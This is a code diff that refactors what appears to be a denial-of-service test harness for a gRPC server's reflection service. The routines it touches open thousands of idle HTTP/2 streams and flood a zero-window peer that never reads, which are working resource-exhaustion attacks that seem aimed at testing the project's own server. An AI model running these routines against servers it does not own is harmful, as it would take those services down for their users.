@@ -255,22 +255,31 @@ def names(path: Callable[[int], str], count: int) -> Callable[[Victim], None]:
     return attack
 
 
+_QUESTION = message(
+    reflection_pb2.ServerReflectionRequest(file_containing_symbol="artemis.v1.EventService").SerializeToString()
+)
+
+
+def _open_reflections(peer: Peer, count: int) -> list[int]:
+    """Opens streams of reflection and returns their numbers."""
+    streams = []
+    for _ in range(count):
+        stream, head = peer.head(REFLECTION)
+        peer.send(head)
+        streams.append(stream)
+    return streams
+
+
 def reflection_streams(victim: Victim) -> None:
     """Opens 2,000 streams of reflection that ask nothing, and some that ask without end and read nothing."""
     with Peer(victim.port) as quiet, Peer(victim.port, window=0) as greedy:
         for _ in range(victim.size(2_000)):
             quiet.send(quiet.head(REFLECTION)[1])
-        question = reflection_pb2.ServerReflectionRequest(file_containing_symbol="artemis.v1.EventService")
-        asked = message(question.SerializeToString())
-        streams = []
-        for _ in range(20):
-            stream, head = greedy.head(REFLECTION)
-            greedy.send(head)
-            streams.append(stream)
+        streams = _open_reflections(greedy, 20)
         end = time.monotonic() + victim.seconds
         greedy.socket.settimeout(1)
         for stream in _around(streams):
-            if time.monotonic() > end or not greedy.send(frame(DATA, 0, stream, asked * 50)):
+            if time.monotonic() > end or not greedy.send(frame(DATA, 0, stream, _QUESTION * 50)):
                 break
         time.sleep(max(0.0, end - time.monotonic()))
         victim.note(ended=dict(quiet.codes()))
@@ -279,16 +288,10 @@ def reflection_streams(victim: Victim) -> None:
 def reflection_questions(victim: Victim) -> None:
     """Asks reflection as fast as it answers, on 30 streams."""
     with Peer(victim.port) as peer:
-        question = reflection_pb2.ServerReflectionRequest(file_containing_symbol="artemis.v1.EventService")
-        asked = message(question.SerializeToString())
-        streams = []
-        for _ in range(30):
-            stream, head = peer.head(REFLECTION)
-            peer.send(head)
-            streams.append(stream)
+        streams = _open_reflections(peer, 30)
         end, sent = time.monotonic() + victim.seconds, 0
         for stream in _around(streams):
-            if time.monotonic() > end or not peer.send(frame(DATA, 0, stream, asked)):
+            if time.monotonic() > end or not peer.send(frame(DATA, 0, stream, _QUESTION)):
                 break
             sent += 1
             if sent % 30 == 0:
